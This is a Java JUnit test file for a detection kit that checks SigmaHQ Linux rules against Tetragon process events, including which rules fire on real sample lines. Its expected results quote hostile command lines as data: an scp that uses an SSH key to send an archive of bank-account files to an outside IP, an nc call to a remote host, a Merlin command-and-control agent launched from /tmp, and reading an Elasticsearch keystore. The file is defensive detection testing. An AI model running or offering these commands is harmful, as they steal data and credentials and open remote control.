package io.tetragonroutes.rules.sigma;

import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import io.tetragonroutes.Samples;
import io.tetragonroutes.event.EventBatch;
import io.tetragonroutes.event.EventParser;
import io.tetragonroutes.event.TetragonEvent;
import io.tetragonroutes.rules.RuleSet;
import io.tetragonroutes.rules.Severity;
import io.tetragonroutes.rules.sigma.SigmaLoader.SigmaRule;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * SigmaHQ's Linux rules (read from ../shared/sigma at test time, never copied here) on Tetragon events: every rule
 * loads or is skipped with its reason, and for every loaded rule an event built from the rule's own values fires it
 * and a near miss (a selection undone, or a filter made true) does not, through the same index as the kit's rules.
 */
class SigmaRulesTest {

    static final ObjectMapperHolder M = new ObjectMapperHolder();
    private static SigmaLoader.Result result;
    private static RuleSet set;

    static final class ObjectMapperHolder {
        final EventParser parser = new EventParser(new com.fasterxml.jackson.databind.ObjectMapper(), new SimpleMeterRegistry());
    }

    @BeforeAll
    static void load() {
        result = new SigmaLoader(Severity.HIGH, Set.of("deprecated", "unsupported"), Duration.ofSeconds(60))
                .load(SigmaEvents.SIGMA.resolve("rules"));
        set = new RuleSet(result.rules(), result.skipped());
    }

    static TetragonEvent event(String line) {
        EventBatch b = M.parser.parse(Samples.batch("sigma-test", List.of(line)));
        assertTrue(b.getDeadLetters().isEmpty(), () -> "not an event: " + line);
        return b.list().get(0);
    }

    @Test
    void everyRuleLoadsOrIsSkippedWithAReason() throws Exception {
        long files;
        try (Stream<Path> s = Files.walk(SigmaEvents.SIGMA.resolve("rules"))) {
            files = s.filter(p -> p.toString().endsWith(".yml")).count();
        }
        assertEquals(135, files, "the rules routes/README.md reports on");
        assertEquals(files, result.loaded().size() + result.skipped().size());
        // routes/README.md > Sigma rules reports these counts
        assertEquals(132, result.loaded().size());
        assertEquals(Map.of("field:DestinationHostname", 3), set.skippedByReason());
        assertEquals(Map.of("process_creation", 122L, "file_event", 8L, "network_connection", 2L),
                result.loaded().stream().collect(java.util.stream.Collectors.groupingBy(SigmaRule::category,
                        java.util.stream.Collectors.counting())));
        for (SigmaRule r : result.loaded()) {
            assertNotNull(r.author(), r.source() + " names its author");
            assertEquals(r.author(), r.rule().author());
        }
    }

    /**
     * Every real sample line through every loaded rule: what fires is what a reader of the rules expects, and
     * nothing else. Reviewed: curl is "Curl Usage" (both lines); nc is a network scanning tool; the Merlin agent
     * built by `go run` executes from /tmp; its `sh -c` children have a parent in /tmp; `uname -a` is system
     * information discovery. Not firing, rightly: `cat elasticsearch.keystore` (the rule wants a redirect `>` in
     * the command line), `whoami` under bash (the web shell rule wants a web server parent), `nsenter -t 1`
     * (SigmaHQ has no Linux rule for it), the kprobe samples (no file_event path and no socket argument that a
     * rule names).
     */
    @Test
    void realSamplesFireExactlyTheRulesAReviewerExpects() {
        List<String> fired = new ArrayList<>();
        for (Path f : Samples.lineFiles()) {
            for (String l : Samples.lines(f)) {
                EventBatch b = M.parser.parse(Samples.batch("sample", List.of(l)));
                for (TetragonEvent e : b.list()) {
                    for (String id : set.matchingIds(e)) {
                        fired.add(e.binary() + " " + e.root().path(e.typeKey()).path("process").path("arguments").asText("")
                                + " => " + title(id));
                    }
                }
            }
        }
        assertEquals(List.of(
                "/usr/bin/curl https://ebpf.io/applications/#tetragon => Curl Usage on Linux",
                "/usr/bin/curl www.google.com => Curl Usage on Linux",
                "/usr/bin/nc raiz3gjkgtfhkkc.not-reverse-shell.com 443 => Linux Network Service Scanning Tools Execution",
                "/tmp/go-build3518135900/b001/exe/main -v -url https://main.linux-libs.org:443 -proto h2 -psk SecurePSK!23@456"
                        + " => Potentially Suspicious Execution From Tmp Folder",
                "/bin/sh -c \"scp -i ~/.ssh/id_rsa s3nsitiv3.7z natalia@34.116.205.187:~\""
                        + " => Shell Execution Of Process Located In Tmp Directory",
                "/bin/sh -c \"7z a s3nsitiv3.7z ../ops_bank_accounts/\" => Shell Execution Of Process Located In Tmp Directory",
                "/usr/bin/uname -a => System Information Discovery"), fired);
    }

    private static String title(String id) {
        return result.loaded().stream().filter(r -> r.id().equals(id)).findFirst().orElseThrow().title();
    }

    @TestFactory
    Stream<DynamicTest> eachLoadedRuleFiresOnItsOwnValuesAndNotOnANearMiss() {
        return result.loaded().stream().map(r -> DynamicTest.dynamicTest(r.title() + " (" + r.id() + ")", () -> check(r)));
    }

    private static void check(SigmaRule r) {
        List<String> ids = new ArrayList<>(r.detection().keySet());
        Set<String> positive = null;
        TetragonEvent fires = null;
        for (Set<String> on : subsets(ids)) {
            Map<String, Boolean> want = truth(ids, on);
            if (!ConditionTruth.holds(r.conditions(), want)) {
                continue;
            }
            TetragonEvent e = event(SigmaEvents.line(r.category(), SigmaEvents.values(r, on)));
            if (ConditionTruth.holds(r.conditions(), actual(r, e))) {
                positive = on;
                fires = e;
                break;
            }
        }
        assertNotNull(fires, "no event built from the rule's values makes its condition true: " + r.source());
        assertTrue(set.matchingIds(fires).contains(r.id()), () -> "does not fire: " + r.source());
        TetragonEvent misses = null;
        for (String id : ids) {
            Set<String> on = new HashSet<>(positive);
            if (!on.remove(id)) {
                on.add(id);
            }
            TetragonEvent e = event(SigmaEvents.line(r.category(), SigmaEvents.values(r, on)));
            if (!ConditionTruth.holds(r.conditions(), actual(r, e))) {
                misses = e;
                break;
            }
        }
        assertNotNull(misses, "no near miss: " + r.source());
        assertFalse(set.matchingIds(misses).contains(r.id()), () -> "fires on a near miss: " + r.source());
    }

    /** The truth of each search identifier on {@code e}, as the kit computes it. */
    private static Map<String, Boolean> actual(SigmaRule r, TetragonEvent e) {
        Map<String, Boolean> t = new LinkedHashMap<>();
        r.identifiers().forEach((k, c) -> t.put(k, c.test(e)));
        return t;
    }

    private static Map<String, Boolean> truth(List<String> ids, Set<String> on) {
        Map<String, Boolean> t = new LinkedHashMap<>();
        ids.forEach(i -> t.put(i, on.contains(i)));
        return t;
    }

    /** Every subset of {@code ids}, smallest first. */
    private static List<Set<String>> subsets(List<String> ids) {
        List<Set<String>> out = new ArrayList<>();
        int n = ids.size();
        for (int mask = 0; mask < 1 << n; mask++) {
            Set<String> s = new HashSet<>();
            for (int i = 0; i < n; i++) {
                if ((mask & 1 << i) != 0) {
                    s.add(ids.get(i));
                }
            }
            out.add(s);
        }
        out.sort(java.util.Comparator.comparingInt(Set::size));
        return out;
    }
}
